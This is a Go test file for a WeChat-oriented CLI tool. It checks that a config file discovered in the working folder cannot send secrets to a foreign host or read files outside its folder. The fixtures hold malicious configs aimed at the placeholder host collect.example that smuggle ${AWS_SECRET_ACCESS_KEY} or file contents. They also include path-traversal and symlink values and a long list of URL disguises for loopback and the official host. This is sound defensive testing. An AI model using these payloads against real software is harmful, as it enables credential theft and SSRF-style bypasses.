package cli

import (
	"context"
	"io"
	"net/http"
	"net/http/httputil"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// The host of the attacker, which no test connects to, and secrets that must not be sent
// there.
const (
	attacker   = "collect.example"
	canaryAWS  = "CanaryAWSSecretAccessKey0123456789"
	canaryFile = "CanaryPrivateKeyOfTheUser"
)

// wire is a network that records requests and answers each with body.
type wire struct {
	body string

	mu   sync.Mutex
	sent []string
}

func (n *wire) RoundTrip(r *http.Request) (*http.Response, error) {
	dump, err := httputil.DumpRequestOut(r, true)
	if err != nil {
		return nil, err
	}
	n.mu.Lock()
	defer n.mu.Unlock()
	n.sent = append(n.sent, r.URL.String()+"\n"+string(dump))
	return &http.Response{StatusCode: http.StatusOK, Header: http.Header{}, Body: io.NopCloser(strings.NewReader(n.body)), Request: r}, nil
}

// victim returns a user with an account in the environment, whose working directory is
// below the folder of the config file.
func victim(t *testing.T, config string) (*world, *wire) {
	t.Helper()
	w, net := newWorld(t), &wire{body: `{"access_token":"abc","expires_in":7200}`}
	w.http, w.api = net, net
	w.vars["WXTOOL_TOKEN"], w.vars["WXTOOL_ENCODING_AES_KEY"] = canaryToken, canaryKey
	w.vars["WXTOOL_APP_ID"], w.vars["WXTOOL_APP_SECRET"] = "wx5823bf96d3bd56c7", canarySecret
	w.vars["AWS_SECRET_ACCESS_KEY"] = canaryAWS
	w.file(t, "wxtool.yaml", config)
	w.file(t, "project/.keep", "")
	w.file(t, "outside", canaryFile)
	return w, net
}

// runShortly is run for commands that may be servers: it interrupts them.
func (w *world) runShortly(args ...string) (code int, stdout, stderr string) {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	env, out, errOut := w.env()
	code = Main(ctx, env, args)
	return code, out.String(), errOut.String()
}

// secretsIn returns the canaries in a text.
func secretsIn(text string) (found []string) {
	for _, secret := range []string{canaryToken, canaryKey, canarySecret, canaryAWS, canaryFile} {
		if strings.Contains(text, secret) {
			found = append(found, secret)
		}
	}
	return found
}

// theft is a config file from an attacker, with commands that could send a secret to the
// attacker.
type theft struct {
	name, config string
	own          bool // the environment has no account
	commands     []string
}

func thefts() []theft {
	const shop = "profiles:\n  shop:\n"
	push := []string{"send-fixture text", "send-fixture text -q", "send-fixture text --mode safe", "send-fixture --all", "handshake", "handshake -q",
		"sandbox do follow --user lily --state s.json", "sandbox --listen 127.0.0.1:0"}
	api := []string{"token", "token -q", "token --refresh", "token --platform work", "qrcode create --scene-id 1", "menu pull", "menu push -", "menu delete --yes"}
	return []theft{
		{"the user's token to a foreign URL", shop + "    to: http://" + attacker + "/wx\n", false, push},
		{"the user's secret to a foreign API", shop + "    api_base: https://" + attacker + "\n", false, api},
		{"the official host without TLS", shop + "    api_base: http://api.weixin.qq.com/\n", false, api},
		{"a variable in to", shop + "    to: http://" + attacker + "/${AWS_SECRET_ACCESS_KEY}\n", false, push},
		{"a variable in to, with an account of its own", shop + "    token: AAAAA\n    to: http://" + attacker + "/${AWS_SECRET_ACCESS_KEY}\n", true, push},
		{"a variable in api_base", shop + "    app_id: wx1\n    app_secret: s\n    api_base: http://" + attacker + "/${AWS_SECRET_ACCESS_KEY}\n", true, api},
		{"a variable as app_secret", shop + "    app_id: wx1\n    app_secret: ${AWS_SECRET_ACCESS_KEY}\n    api_base: http://" + attacker + "\n", true, api},
		{"a variable as app_id", shop + "    app_id: ${AWS_SECRET_ACCESS_KEY}\n    app_secret: s\n    api_base: http://" + attacker + "\n", true,
			append(api, "sandbox do follow --user lily", "sandbox users")},
		{"a variable as agent_id", shop + "    platform: work\n    app_id: ww1\n    app_secret: s\n    agent_id: ${AWS_SECRET_ACCESS_KEY}\n    api_base: http://" + attacker + "\n", true, []string{"menu pull"}},
		{"a variable as token", shop + "    token: ${AWS_SECRET_ACCESS_KEY}\n    app_id: wx1\n    to: http://" + attacker + "\n", true, push},
		{"a file below the folder", shop + "    app_id: wx1\n    app_secret: \"@outside\"\n    api_base: http://" + attacker + "\n", true, api},
		{"a file as token", shop + "    token: \"@outside\"\n    app_id: wx1\n    to: http://" + attacker + "\n", true, push},
		{"a host that begins like loopback", shop + "    to: http://localhost." + attacker + "\n    api_base: http://127.0.0.1." + attacker + "\n", false, append(push, api...)},
	}
}

// TestDiscoveredConfigStealsNothing: a wxtool.yaml that merely lies in this
// folder or one above gets no secret sent to a host of its choice.
func TestDiscoveredConfigStealsNothing(t *testing.T) {
	t.Parallel()
	for _, theft := range thefts() {
		for _, dir := range []string{"", "project"} {
			for _, command := range theft.commands {
				w, net := victim(t, theft.config)
				w.stdin = oneButton
				if theft.own {
					for _, name := range []string{"TOKEN", "ENCODING_AES_KEY", "APP_ID", "APP_SECRET"} {
						delete(w.vars, "WXTOOL_"+name)
					}
				}
				w.dir = filepath.Join(w.dir, dir)
				code, stdout, stderr := w.runShortly(strings.Fields(command)...)
				if len(net.sent) > 0 {
					t.Errorf("%s: %s in %q: was sent:\n%s", theft.name, command, dir, strings.Join(net.sent, "\n"))
				}
				if code != exitUsage || !strings.Contains(stderr, "wxtool.yaml:") {
					t.Errorf("%s: %s in %q: exit code %d\n%s%s", theft.name, command, dir, code, stdout, stderr)
				}
				if found := secretsIn(stdout + stderr); found != nil {
					t.Errorf("%s: %s in %q: printed %s", theft.name, command, dir, found)
				}
			}
		}
	}
}

// TestDiscoveredConfigReadsBelowItsFolder: @path in a discovered file cannot read a file
// outside of its folder.
func TestDiscoveredConfigReadsBelowItsFolder(t *testing.T) {
	for name, path := range map[string]string{
		"parent":              "../secret",
		"parent in between":   "keys/../../secret",
		"absolute":            "{outside}/secret",
		"variable":            "${OUTSIDE}/secret",
		"link to a file":      "link",
		"relative link":       "relative",
		"link to a folder":    "folder/secret",
		"link within a link":  "keys/chain",
		"absolute, then back": "{dir}/keys/../../secret",
	} {
		w, net := newWorld(t), &wire{body: "success"}
		w.http, w.api = net, net
		outside := w.dir
		w.file(t, "secret", canaryFile)
		w.dir = filepath.Join(w.dir, "checkout")
		w.vars["OUTSIDE"] = outside
		path = strings.NewReplacer("{outside}", outside, "{dir}", w.dir).Replace(path)
		w.file(t, "keys/own", "AAAAA")
		w.file(t, "wxtool.yaml", "profiles:\n  shop:\n    app_id: wx1\n    token: \"@"+path+"\"\n")
		for link, target := range map[string]string{
			"link": filepath.Join(outside, "secret"), "relative": "../secret", "folder": outside, "keys/chain": "../relative",
		} {
			if err := os.Symlink(target, filepath.Join(w.dir, link)); err != nil {
				t.Skip(err)
			}
		}
		code, stdout, stderr := w.run("sign")
		if code != exitUsage || !strings.Contains(stderr, "outside of the folder of wxtool.yaml") {
			t.Errorf("%s: exit code %d\n%s%s", name, code, stdout, stderr)
		}
		if found := secretsIn(stdout + stderr); found != nil {
			t.Errorf("%s: printed %s", name, found)
		}
		if code, _, stderr := w.run("sign", "--config", "wxtool.yaml"); code != exitOK {
			t.Errorf("%s: a named file is the user's: exit code %d\n%s", name, code, stderr)
		}
	}
}

// TestHostsThatLookHarmless: only this machine and, over TLS, the platform are exempt,
// but not hosts with similar names.
func TestHostsThatLookHarmless(t *testing.T) {
	t.Parallel()
	refused := []string{
		"http://localhost." + attacker, "http://127.0.0.1." + attacker, "http://localhost@" + attacker, "http://127.0.0.1:80@" + attacker,
		"http://2130706433", "http://0x7f000001", "http://0x7f.1", "http://017700000001", "http://127.1", "http://0.0.0.0", "http://[::]",
		"http://[::1%25eth0]", "http://[fe80::1%25lo]", "http://localhost%2e" + attacker, "http://xn--localhost-." + attacker,
		"http://127.0.0.1\\\\@" + attacker, attacker + "/127.0.0.1", "http://" + attacker + "?http://localhost", "http://" + attacker + "#@localhost",
		"https://api.weixin.qq.com." + attacker, "https://evilweixin.qq.com", "http://api.weixin.qq.com", "https://api.weixin.qq.com@" + attacker,
		"http://１２７.0.0.1", "http://localhoſt", "http://localhost.localdomain",
	}
	for _, url := range refused {
		for _, setting := range []string{"to", "api_base"} {
			w, net := victim(t, "profiles:\n  shop:\n    "+setting+": \""+url+"\"\n")
			command := map[string]string{"to": "send-fixture text", "api_base": "token"}[setting]
			code, stdout, stderr := w.run(strings.Fields(command)...)
			if code != exitUsage || len(net.sent) > 0 {
				t.Errorf("%s: %s: exit code %d, sent %q\n%s%s", setting, url, code, net.sent, stdout, stderr)
			}
			if found := secretsIn(stdout + stderr); found != nil {
				t.Errorf("%s: %s: printed %s", setting, url, found)
			}
		}
	}
	for url, setting := range map[string]string{
		"http://localhost:1/": "to", "http://LOCALHOST.": "to", "http://127.9.9.9:1": "to", "http://[::1]:1": "to", "3000": "to", ":3000/wx": "to", "http://[::ffff:127.0.0.1]": "to",
		"http://127.0.0.1:1": "api_base", "https://api.weixin.qq.com": "api_base", "https://API2.weixin.qq.com/": "api_base", "https://qyapi.weixin.qq.com": "api_base",
	} {
		w, net := victim(t, "profiles:\n  shop:\n    "+setting+": \""+url+"\"\n")
		command := map[string]string{"to": "send-fixture text", "api_base": "token"}[setting]
		if code, stdout, stderr := w.run(strings.Fields(command)...); code == exitUsage || len(net.sent) == 0 {
			t.Errorf("%s: %s: exit code %d, nothing sent\n%s%s", setting, url, code, stdout, stderr)
		}
	}
}
